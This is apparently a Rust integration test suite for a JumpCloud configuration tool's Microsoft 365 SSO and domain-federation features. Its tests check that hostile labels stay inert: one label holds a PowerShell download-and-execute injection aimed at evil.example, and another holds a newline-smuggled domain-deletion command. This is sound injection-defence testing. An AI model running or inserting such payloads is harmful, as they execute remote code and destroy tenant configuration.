//! Issue 16: the Microsoft 365 SSO application and domain federation, through the real binary
//! against sandbox emulators on 127.0.0.1: LCK010/LCK011/LCK116 on their fixture, the
//! federation request, apply then an empty re-plan, an update that keeps what the files do not
//! manage, deletes under `manage.sso_apps: full`, and export round trips.

use std::path::Path;

use assert_cmd::Command;
use serde_json::Value;

fn jcform(args: &[&str]) -> (i32, String, String) {
    let out = Command::cargo_bin("jcform")
        .expect("binary")
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .env("NO_COLOR", "1")
        .env_remove("JC_API_KEY")
        .args(args)
        .output()
        .expect("runs");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

const FIXTURES: &str = "tests/fixtures/lint/rules/federation";

/// `(code, targets)` of every finding of `jcform lint FILE --sandbox org.json --format json`.
fn findings(file: &str) -> Vec<(String, Vec<String>)> {
    let org = format!("{FIXTURES}/org.json");
    let (_, out, err) = jcform(&["lint", file, "--sandbox", &org, "--format", "json"]);
    let doc: Value = serde_json::from_str(&out).unwrap_or_else(|_| panic!("JSON: {out}{err}"));
    doc["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .map(|f| {
            let targets = f["targets"]
                .as_array()
                .unwrap()
                .iter()
                .map(|t| t.as_str().unwrap().to_string())
                .collect();
            (f["code"].as_str().unwrap().to_string(), targets)
        })
        .collect()
}

fn targets_of(found: &[(String, Vec<String>)], code: &str) -> Vec<String> {
    found
        .iter()
        .filter(|(c, _)| c == code)
        .flat_map(|(_, t)| t.clone())
        .collect()
}

#[test]
fn federation_rules_fire_on_the_right_users_and_not_on_the_near_miss() {
    let fires = findings(&format!("{FIXTURES}/fires.yaml"));
    // bob is in `others`, which the app is not assigned to; erin is in fabrikam.com.
    assert_eq!(targets_of(&fires, "LCK010"), ["user.bob"], "{fires:?}");
    // carol is suspended, dan has no JumpCloud password: every affected user is a target.
    assert_eq!(
        targets_of(&fires, "LCK011"),
        ["user.carol", "user.dan"],
        "{fires:?}"
    );
    assert_eq!(
        targets_of(&fires, "LCK116"),
        ["m365_tenant.contoso"],
        "{fires:?}"
    );
    let quiet = findings(&format!("{FIXTURES}/quiet.yaml"));
    for code in ["LCK010", "LCK011", "LCK116"] {
        assert!(targets_of(&quiet, code).is_empty(), "{code}: {quiet:?}");
    }
    // The errors block: lint exits 3 on the fixture that fires them.
    let org = format!("{FIXTURES}/org.json");
    let (code, _, _) = jcform(&["lint", &format!("{FIXTURES}/fires.yaml"), "--sandbox", &org]);
    assert_eq!(code, 3);
}

#[test]
fn explain_lists_the_federation_rules() {
    let (code, out, _) = jcform(&["explain", "--list"]);
    assert_eq!(code, 0);
    for line in [
        "LCK010  federated-user-not-assigned",
        "LCK011  federated-user-cannot-authenticate",
        "LCK116  federated-default-domain",
    ] {
        assert!(out.contains(line), "{line}\n{out}");
    }
    let (code, out, _) = jcform(&["explain", "LCK011"]);
    assert_eq!(code, 0);
    assert!(out.contains("## Why it locks people out"), "{out}");
}

#[test]
fn federation_prints_the_graph_request_and_powershell_and_no_secret() {
    for config in ["examples/yaml", "examples/kdl"] {
        let (code, out, err) = jcform(&[
            "federation",
            "m365_tenant.contoso",
            config,
            "--sandbox",
            "examples/sandbox.json",
        ]);
        assert_eq!(code, 0, "{err}");
        assert!(!out.contains("PRIVATE KEY") && !out.contains("BEGIN CERTIFICATE"));
        insta::assert_snapshot!("federation_examples", out);
    }
    let (code, out, _) = jcform(&[
        "federation",
        "contoso",
        "examples/yaml",
        "--sandbox",
        "examples/sandbox.json",
        "--format",
        "json",
    ]);
    assert_eq!(code, 0);
    let doc: Value = serde_json::from_str(&out).expect("JSON");
    let body = &doc["graph"]["body"];
    assert_eq!(
        doc["graph"]["url"],
        "https://graph.microsoft.com/v1.0/domains/example.com/federationConfiguration"
    );
    assert_eq!(body["issuerUri"], "example.com");
    assert_eq!(
        body["passiveSignInUri"],
        "https://sso.jumpcloud.com/saml2/office365"
    );
    assert_eq!(
        body["signOutUri"],
        "https://console.jumpcloud.com/userconsole/"
    );
    assert_eq!(body["preferredAuthenticationProtocol"], "saml");
    let cert = body["signingCertificate"].as_str().unwrap();
    assert!(cert.starts_with("MII") && !cert.chars().any(char::is_whitespace));
}

#[test]
fn federation_explains_what_is_missing() {
    // No org: the certificate is there.
    let (code, _, err) = jcform(&["federation", "m365_tenant.contoso", "examples/yaml"]);
    assert_eq!(code, 1);
    assert!(err.contains("needs the org"), "{err}");
    // An app the org does not have yet: apply first.
    let dir = tempfile::tempdir().unwrap();
    let org = dir.path().join("org.json");
    std::fs::write(&org, EMPTY_ORG).unwrap();
    let (code, _, err) = jcform(&[
        "federation",
        "m365_tenant.contoso",
        "examples/yaml",
        "--sandbox",
        org.to_str().unwrap(),
    ]);
    assert_eq!(code, 1);
    assert!(err.contains("jcform apply"), "{err}");
    // A tenant without `federation`.
    let (code, _, err) = jcform(&[
        "federation",
        "m365_tenant.contoso",
        "tests/fixtures/lint/clean",
        "--sandbox",
        "examples/sandbox.json",
    ]);
    assert_eq!(code, 1, "{err}");
}

const EMPTY_ORG: &str = r#"{
  "office365s": [{"id": "5f1e0c0b4a3f2e1d0c9b8a71", "name": "Contoso", "groupsEnabled": true,
                  "userLockoutAction": "suspend", "userPasswordExpirationAction": "maintain"}],
  "office365_domains": {"5f1e0c0b4a3f2e1d0c9b8a71": [
    {"objectId": "64e000000000000000000001", "domain": "example.com", "default": true},
    {"objectId": "64e000000000000000000002", "domain": "example.onmicrosoft.com", "default": false}]}
}"#;

fn plan_is_empty(config: &str, org: &str) {
    let (code, out, err) = jcform(&["plan", config, "--sandbox", org, "--detailed-exitcode"]);
    assert_eq!(code, 0, "re-plan not empty:\n{out}\n{err}");
    assert!(out.starts_with("No changes."), "{out}");
}

fn apply(config: &str, org: &str) -> String {
    let (code, out, err) = jcform(&["apply", config, "--sandbox", org, "--auto-approve"]);
    assert_eq!(code, 0, "apply failed:\n{out}\n{err}");
    out
}

fn apps(org: &Path) -> Vec<Value> {
    let state: Value = serde_json::from_str(&std::fs::read_to_string(org).unwrap()).unwrap();
    state["applications"]
        .as_array()
        .cloned()
        .unwrap_or_default()
}

/// Scenario: the seed's steps on an org with only the tenant. The app is created with its
/// group assignments, the primary domain moves to onmicrosoft.com, the re-plan is empty, the
/// federation request can be printed, and an export of the result plans empty.
#[test]
fn the_seed_applies_then_re_plans_empty_and_exports_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let org = dir.path().join("org.json");
    std::fs::write(&org, EMPTY_ORG).unwrap();
    let org_s = org.to_str().unwrap();
    let out = apply("examples/yaml", org_s);
    assert!(out.contains("sso_app.m365 create"), "{out}");
    plan_is_empty("examples/yaml", org_s);
    plan_is_empty("examples/kdl", org_s);
    let apps = apps(&org);
    assert_eq!(apps.len(), 1);
    assert_eq!(apps[0]["name"], "office365");
    assert_eq!(apps[0]["config"]["idpEntityId"]["value"], "example.com");
    assert_eq!(
        apps[0]["config"]["spEntityId"]["value"],
        "urn:federation:MicrosoftOnline"
    );
    let (code, _, err) = jcform(&[
        "federation",
        "m365_tenant.contoso",
        "examples/yaml",
        "--sandbox",
        org_s,
    ]);
    assert_eq!(code, 0, "{err}");
    for format in ["yaml", "kdl"] {
        let out_dir = dir.path().join(format!("adopted-{format}"));
        let out_s = out_dir.to_str().unwrap();
        let (code, _, err) = jcform(&[
            "export",
            "--sandbox",
            org_s,
            "--out",
            out_s,
            "--format",
            format,
        ]);
        assert_eq!(code, 0, "{err}");
        plan_is_empty(out_s, org_s);
    }
}

/// `PUT /applications/{id}` replaces the whole app: an update of the label and the IdP Entity
/// ID must send back everything else as read (description, attributes, the certificate, the
/// SSO flags), and an unmanaged group assignment stays.
#[test]
fn an_update_keeps_what_the_files_do_not_manage() {
    let dir = tempfile::tempdir().unwrap();
    let org = dir.path().join("org.json");
    let mut state: Value = serde_json::from_str(
        &std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/sandbox.json"),
        )
        .unwrap(),
    )
    .unwrap();
    let app = &mut state["applications"][0];
    app["description"] = "kept".into();
    app["sso"] = serde_json::json!({"type": "saml", "jit": true});
    app["config"]["constantAttributes"] =
        serde_json::json!({"type": "list", "value": [{"name": "role", "value": "staff"}]});
    app["config"]["idpCertificate"] = serde_json::json!({"type": "file", "value": "-----BEGIN CERTIFICATE-----\nMIIKEEP\n-----END CERTIFICATE-----\n"});
    std::fs::write(&org, serde_json::to_string(&state).unwrap()).unwrap();
    let files = dir.path().join("files");
    std::fs::create_dir(&files).unwrap();
    std::fs::write(
        files.join("sso.yaml"),
        "version: 1\n\
         groups: {engineering: {}}\n\
         m365_tenants: {contoso: {id: 5f1e0c0b4a3f2e1d0c9b8a71}}\n\
         sso_apps:\n  m365:\n    template: office365\n    display_label: Microsoft 365 (Contoso)\n\
         \x20   tenant: contoso\n    domain: contoso.example\n",
    )
    .unwrap();
    let files_s = files.to_str().unwrap();
    let org_s = org.to_str().unwrap();
    // Matched by template (the label changes): an update, never a second app.
    let (_, out, _) = jcform(&["plan", files_s, "--sandbox", org_s]);
    assert!(out.contains("~ sso_app.m365"), "{out}");
    apply(files_s, org_s);
    plan_is_empty(files_s, org_s);
    let apps = apps(&org);
    assert_eq!(apps.len(), 1);
    let a = &apps[0];
    assert_eq!(a["displayLabel"], "Microsoft 365 (Contoso)");
    assert_eq!(a["config"]["idpEntityId"]["value"], "contoso.example");
    assert_eq!(a["description"], "kept");
    assert_eq!(a["sso"]["jit"], true);
    assert_eq!(
        a["config"]["constantAttributes"]["value"][0]["name"],
        "role"
    );
    assert_eq!(a["config"]["idpEntityId"]["label"], "IdP Entity ID");
    assert!(a["config"]["idpCertificate"]["value"]
        .as_str()
        .unwrap()
        .contains("MIIKEEP"));
    // `groups` left out: the live assignment to engineering is not managed, so it stays.
    let state: Value = serde_json::from_str(&std::fs::read_to_string(&org).unwrap()).unwrap();
    let assigned =
        state["associations"].as_array().unwrap().iter().any(|e| {
            e["to"]["type"] == "application" && e["from"]["id"] == "64b000000000000000000001"
        });
    assert!(assigned, "the unmanaged assignment survives");
}

#[test]
fn manage_full_deletes_an_app_the_files_do_not_name() {
    let dir = tempfile::tempdir().unwrap();
    let org = dir.path().join("org.json");
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/sandbox.json"),
        &org,
    )
    .unwrap();
    let files = dir.path().join("files.yaml");
    std::fs::write(&files, "version: 1\nsettings: {manage: {sso_apps: full}}\n").unwrap();
    let (files_s, org_s) = (files.to_str().unwrap(), org.to_str().unwrap());
    let (_, out, _) = jcform(&["plan", files_s, "--sandbox", org_s]);
    assert!(
        out.contains("- sso_app.microsoft_365") || out.contains("- sso_app[\"Microsoft 365\"]"),
        "{out}"
    );
    apply(files_s, org_s);
    assert!(apps(&org).is_empty());
    plan_is_empty(files_s, org_s);
    // The default (additive) leaves apps alone and lists them.
    std::fs::copy(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/sandbox.json"),
        &org,
    )
    .unwrap();
    std::fs::write(&files, "version: 1\n").unwrap();
    let (code, out, _) = jcform(&["plan", files_s, "--sandbox", org_s, "--detailed-exitcode"]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("SSO app"), "{out}");
}

/// The example org (`examples/sandbox.json`) with `edit` applied, written to `dir/org.json`.
fn org_with(dir: &Path, edit: impl FnOnce(&mut Value)) -> String {
    let mut state: Value = serde_json::from_str(
        &std::fs::read_to_string(
            Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/sandbox.json"),
        )
        .unwrap(),
    )
    .unwrap();
    edit(&mut state);
    let org = dir.join("org.json");
    std::fs::write(&org, serde_json::to_string(&state).unwrap()).unwrap();
    org.to_str().unwrap().to_string()
}

/// A copy of `examples/yaml` in `dir/files` (and its `passwords` beside it) with `sso.yaml`
/// replaced (and `sso_apps: full` when `full`).
fn files_with(dir: &Path, sso_yaml: &str, full: bool) -> String {
    let files = dir.join("files");
    std::fs::create_dir_all(&files).unwrap();
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/yaml");
    for entry in std::fs::read_dir(&examples).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, files.join(path.file_name().unwrap())).unwrap();
    }
    let passwords = dir.join("passwords");
    std::fs::create_dir_all(&passwords).unwrap();
    let examples = Path::new(env!("CARGO_MANIFEST_DIR")).join("examples/passwords");
    for entry in std::fs::read_dir(&examples).unwrap() {
        let path = entry.unwrap().path();
        std::fs::copy(&path, passwords.join(path.file_name().unwrap())).unwrap();
    }
    std::fs::write(files.join("sso.yaml"), sso_yaml).unwrap();
    if full {
        let settings = std::fs::read_to_string(files.join("settings.yaml")).unwrap();
        let settings = settings.replacen("  manage:\n", "  manage:\n    sso_apps: full\n", 1);
        assert!(settings.contains("sso_apps: full"), "{settings}");
        std::fs::write(files.join("settings.yaml"), settings).unwrap();
    }
    files.to_str().unwrap().to_string()
}

/// A second live app of the template, `label`, `id`, IdP Entity ID `issuer`, certificate
/// `OTHERAPPCERT`.
fn second_app(state: &mut Value, id: &str, label: &str, issuer: &str) {
    let mut b = state["applications"][0].clone();
    b["_id"] = id.into();
    b["displayLabel"] = label.into();
    b["config"]["idpEntityId"]["value"] = issuer.into();
    b["config"]["idpCertificate"] = serde_json::json!({"type": "file",
        "value": "-----BEGIN CERTIFICATE-----\nOTHERAPPCERT\n-----END CERTIFICATE-----\n"});
    state["applications"].as_array_mut().unwrap().push(b);
}

const M365_SSO: &str = "version: 1\n\
sso_apps:\n  m365:\n    template: office365\n    display_label: Microsoft 365\n    tenant: contoso\n\
\x20   domain: example.com\n    groups: [engineering, sales]\n\
waivers:\n  - {rule: LCK011, target: user.carol, reason: \"on leave\"}\n";

/// Two live apps of one template whose labels differ only in case: `sso_app.m365` could be
/// either, so plan (additive or `full`) and federation stop, naming both ids; no certificate.
#[test]
fn two_live_apps_with_one_label_stop_the_plan_and_federation() {
    let dir = tempfile::tempdir().unwrap();
    let org = org_with(dir.path(), |s| {
        second_app(
            s,
            "64f000000000000000000000",
            "microsoft 365",
            "test.example",
        )
    });
    for full in [false, true] {
        let files = files_with(&dir.path().join(format!("{full}")), M365_SSO, full);
        let (code, out, err) = jcform(&["plan", &files, "--sandbox", &org]);
        assert_eq!(code, 1, "{out}{err}");
        assert!(err.contains("ambiguous-match"), "{err}");
        assert!(
            err.contains("64f000000000000000000000") && err.contains("64f000000000000000000001"),
            "{err}"
        );
        assert!(!out.contains("sso_app"), "nothing planned: {out}");
        let (code, out, err) = jcform(&[
            "federation",
            "m365_tenant.contoso",
            &files,
            "--sandbox",
            &org,
        ]);
        assert_eq!(code, 1, "{out}{err}");
        assert!(
            out.is_empty() && !err.contains("OTHERAPPCERT"),
            "{out}{err}"
        );
        assert!(
            err.contains("64f000000000000000000000") && err.contains("64f000000000000000000001"),
            "{err}"
        );
    }
}

/// Issue: with two declared office365 apps a label edit was a delete and a create (a new
/// certificate, federation broken). The IdP Entity ID ties it to the live app: an update.
#[test]
fn a_label_edit_with_two_declared_apps_is_an_update_matched_by_domain() {
    let dir = tempfile::tempdir().unwrap();
    let org = org_with(dir.path(), |s| {
        second_app(
            s,
            "64f000000000000000000002",
            "M365 test",
            "test.example.com",
        )
    });
    let two = "version: 1\n\
sso_apps:\n  m365:\n    template: office365\n    display_label: Microsoft 365 (Contoso)\n\
\x20   tenant: contoso\n    domain: EXAMPLE.com\n    groups: [engineering, sales]\n\
\x20 m365test:\n    template: office365\n    display_label: M365 test\n    tenant: contoso\n\
\x20   domain: test.example.com\n\
waivers:\n  - {rule: LCK011, target: user.carol, reason: \"on leave\"}\n";
    let files = files_with(dir.path(), two, true);
    let (_, out, err) = jcform(&["plan", &files, "--sandbox", &org]);
    assert!(out.contains("~ sso_app.m365"), "{out}{err}");
    assert!(
        !out.contains("+ sso_app") && !out.contains("- sso_app"),
        "no create or delete: {out}"
    );
    // Two live apps the files no longer name share the IdP Entity ID: no guess.
    let dir = tempfile::tempdir().unwrap();
    let org = org_with(dir.path(), |s| {
        second_app(s, "64f000000000000000000002", "M365 old", "example.com");
        second_app(
            s,
            "64f000000000000000000003",
            "M365 test",
            "test.example.com",
        );
    });
    let files = files_with(dir.path(), two, true);
    let (code, out, err) = jcform(&["plan", &files, "--sandbox", &org]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(err.contains("ambiguous-rename"), "{err}");
    assert!(
        err.contains("64f000000000000000000001") && err.contains("64f000000000000000000002"),
        "{err}"
    );
}

/// `manage.sso_apps: full` must not delete the app a declared `federation` relies on.
#[test]
fn deleting_the_app_a_federation_relies_on_is_a_plan_error() {
    let dir = tempfile::tempdir().unwrap();
    let org = org_with(dir.path(), |s| {
        second_app(
            s,
            "64f000000000000000000002",
            "M365 test",
            "test.example.com",
        )
    });
    let moved = "version: 1\n\
sso_apps:\n  m365:\n    template: office365\n    display_label: Microsoft 365 (new)\n\
\x20   tenant: contoso\n    domain: other.example.com\n    groups: [engineering, sales]\n\
\x20 m365test:\n    template: office365\n    display_label: M365 test\n    tenant: contoso\n\
\x20   domain: test.example.com\n\
waivers:\n  - {rule: LCK011, target: user.carol, reason: \"on leave\"}\n";
    let files = files_with(dir.path(), moved, true);
    let (code, out, err) = jcform(&["plan", &files, "--sandbox", &org]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(err.contains("federated-app-removed"), "{err}");
    assert!(err.contains("64f000000000000000000001"), "{err}");
    let (code, _, err) = jcform(&["apply", &files, "--sandbox", &org, "--auto-approve"]);
    assert_eq!(code, 1, "{err}");
    assert_eq!(
        apps(&dir.path().join("org.json")).len(),
        2,
        "nothing deleted"
    );
}

/// The printed request holds the files' values: while the plan still changes the app the org
/// does not match, so federation refuses unless `--pending`, and then warns on stderr.
#[test]
fn federation_refuses_a_pending_app_change_unless_asked() {
    let dir = tempfile::tempdir().unwrap();
    let org = org_with(dir.path(), |_| {});
    let files = files_with(
        dir.path(),
        &M365_SSO.replace("Microsoft 365", "Microsoft 365 (Contoso)"),
        false,
    );
    let args = [
        "federation",
        "m365_tenant.contoso",
        &files,
        "--sandbox",
        &org,
    ];
    let (code, out, err) = jcform(&args);
    assert_eq!(code, 1, "{out}{err}");
    assert!(out.is_empty(), "{out}");
    assert!(
        err.contains("does not match the files yet") && err.contains("--pending"),
        "{err}"
    );
    let (code, out, err) = jcform(&[&args[..], &["--pending"]].concat());
    assert_eq!(code, 0, "{err}");
    assert!(
        err.contains("warning:") && err.contains("jcform apply"),
        "{err}"
    );
    assert!(
        out.contains("-DisplayName 'Microsoft 365 (Contoso)'"),
        "{out}"
    );
}

/// A hostile label (declared and held by the org, so the plan is empty) is text in every form;
/// one with a line break in the org is refused.
#[test]
fn federation_output_keeps_a_hostile_label_inert() {
    let label = "M365 $(iwr https://evil.example/x | iex) `whoami` it's";
    let dir = tempfile::tempdir().unwrap();
    let org = org_with(dir.path(), |s| {
        s["applications"][0]["displayLabel"] = label.into()
    });
    let files = files_with(
        dir.path(),
        &M365_SSO.replace(
            "Microsoft 365",
            "'M365 $(iwr https://evil.example/x | iex) `whoami` it''s'",
        ),
        false,
    );
    let (code, out, err) = jcform(&["federation", "contoso", &files, "--sandbox", &org]);
    assert_eq!(code, 0, "{err}");
    let ps: String = out
        .lines()
        .skip_while(|l| !l.starts_with("## PowerShell"))
        .filter(|l| l.contains("DisplayName"))
        .collect();
    assert_eq!(
        ps,
        "  -DisplayName 'M365 $(iwr https://evil.example/x | iex) `whoami` it''s' `"
    );
    insta::assert_snapshot!(
        "federation_hostile_label_header",
        out.lines().next().unwrap()
    );
    let (code, out, _) = jcform(&[
        "federation",
        "contoso",
        &files,
        "--sandbox",
        &org,
        "--format",
        "json",
    ]);
    assert_eq!(code, 0);
    let doc: Value = serde_json::from_str(&out).expect("JSON");
    assert_eq!(doc["graph"]["body"]["displayName"], label);
    assert!(doc["powershell"]
        .as_str()
        .unwrap()
        .contains("-DisplayName 'M365 $(iwr https://evil.example/x | iex) `whoami` it''s'"));
    // A newline from the org (the files leave the label out): refused, not printed.
    let dir = tempfile::tempdir().unwrap();
    let org = org_with(dir.path(), |s| {
        s["applications"][0]["displayLabel"] =
            "Microsoft 365\nRemove-MgDomain -DomainId example.com".into()
    });
    let files = files_with(
        dir.path(),
        &M365_SSO.replace("    display_label: Microsoft 365\n", ""),
        false,
    );
    let (code, out, err) = jcform(&[
        "federation",
        "contoso",
        &files,
        "--sandbox",
        &org,
        "--pending",
    ]);
    assert_eq!(code, 1, "{out}{err}");
    assert!(
        out.is_empty() && !err.contains("Remove-MgDomain"),
        "{out}{err}"
    );
}

/// A `config.*.value` of the wrong type (the certificate as a number, an entry that is not an
/// object) fails the read naming the app: never "no certificate" or "no setting".
#[test]
fn a_config_value_of_the_wrong_type_fails_the_read() {
    for bad in [
        serde_json::json!({"type": "file", "value": 7}),
        serde_json::json!({"type": "file", "value": {"pem": "x"}}),
        serde_json::json!("-----BEGIN CERTIFICATE-----"),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let org = org_with(dir.path(), |s| {
            s["applications"][0]["config"]["idpCertificate"] = bad.clone()
        });
        for args in [
            vec!["federation", "contoso", "examples/yaml", "--sandbox", &org],
            vec!["plan", "examples/yaml", "--sandbox", &org],
        ] {
            let (code, out, err) = jcform(&args);
            assert_eq!(code, 1, "{bad}: {out}{err}");
            assert!(
                err.contains("64f000000000000000000001") && err.contains("idpCertificate"),
                "{bad}: {err}"
            );
            assert!(!out.contains("SigningCertificate"), "{out}");
        }
    }
}
